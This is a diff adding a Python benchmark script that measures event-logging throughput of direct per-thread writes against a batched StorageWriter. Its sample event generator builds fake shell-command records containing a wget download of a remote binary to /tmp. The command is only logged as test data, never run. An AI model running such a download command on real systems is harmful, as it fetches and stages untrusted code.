@@ -0,0 +1,98 @@
+#!/usr/bin/env python3
+"""bench_storage_writer.py - Event throughput: per-thread writes vs StorageWriter.
+
+Each of K threads plays one session and logs M events. "direct" writes them
+from the connection thread through session_manager.EventLog (one write + flush
+per event, plus an fsync per event when --fsync is not "never"); "writer"
+queues them to a single StorageWriter that group-commits across sessions.
+Prints events/sec and the writer's queue/flush metrics.
+
+On a page-cache-only run (--fsync never) the direct path is usually faster:
+the win from batching shows up once writes have to be durable.
+
+Usage:
+  python scripts/bench_storage_writer.py --sessions 1 4 16 64 256 --events 2000 --fsync never
+"""
+import argparse
+import json
+import os
+import sys
+import tempfile
+import threading
+import time
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+from src import events
+from src.session_manager import EventLog, encode_event
+from src.storage_writer import StorageWriter
+
+
+def make_event(i):
+    return events.shell_cmd(f"wget http://198.51.100.7/bin.{i} -O /tmp/x")
+
+
+def run_threads(k, fn):
+    threads = [threading.Thread(target=fn, args=(n,)) for n in range(k)]
+    t0 = time.perf_counter()
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    return time.perf_counter() - t0
+
+
+def bench_direct(root, k, m, fsync):
+    def session(n):
+        log = EventLog(root / f"s{n}.jsonl")
+        for i in range(m):
+            log.append(make_event(i))
+            if fsync != "never":
+                # without a shared writer durability means one fsync per event
+                os.fsync(log._f.fileno())
+        log.close()
+    return run_threads(k, session), None
+
+
+def bench_writer(root, k, m, fsync, flush_ms, batch):
+    w = StorageWriter(batch_events=batch, flush_ms=flush_ms, fsync=fsync).start()
+
+    def session(n):
+        p = root / f"s{n}.jsonl"
+        for i in range(m):
+            w.append(p, encode_event(make_event(i)))
+        w.close_file(p)
+
+    t0 = time.perf_counter()
+    run_threads(k, session)
+    w.flush()
+    elapsed = time.perf_counter() - t0
+    stats = w.stats()
+    w.stop()
+    return elapsed, stats
+
+
+def main():
+    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap.add_argument("--sessions", type=int, nargs="+", default=[1, 4, 16, 64, 256])
+    ap.add_argument("--events", type=int, default=2000, help="events per session")
+    ap.add_argument("--fsync", default="never", choices=["never", "batch", "interval"])
+    ap.add_argument("--flush-ms", type=float, default=20)
+    ap.add_argument("--batch", type=int, default=512)
+    args = ap.parse_args()
+
+    print(f"{'sessions':>8}{'direct ev/s':>14}{'writer ev/s':>14}{'batches':>9}{'flush_ms avg':>14}{'max depth':>11}")
+    for k in args.sessions:
+        total = k * args.events
+        with tempfile.TemporaryDirectory() as a, tempfile.TemporaryDirectory() as b:
+            d_elapsed, _ = bench_direct(Path(a), k, args.events, args.fsync)
+            w_elapsed, stats = bench_writer(Path(b), k, args.events, args.fsync, args.flush_ms, args.batch)
+            for p in Path(b).glob("*.jsonl"):
+                assert sum(1 for _ in open(p)) == args.events, p
+        print(f"{k:>8}{total / d_elapsed:>14,.0f}{total / w_elapsed:>14,.0f}{stats['batches']:>9}"
+              f"{stats['flush_ms_avg']:>14}{stats['queue_depth_max']:>11}")
+    print(json.dumps({"last_writer_stats": stats}, indent=2))
+
+
+if __name__ == "__main__":
+    main()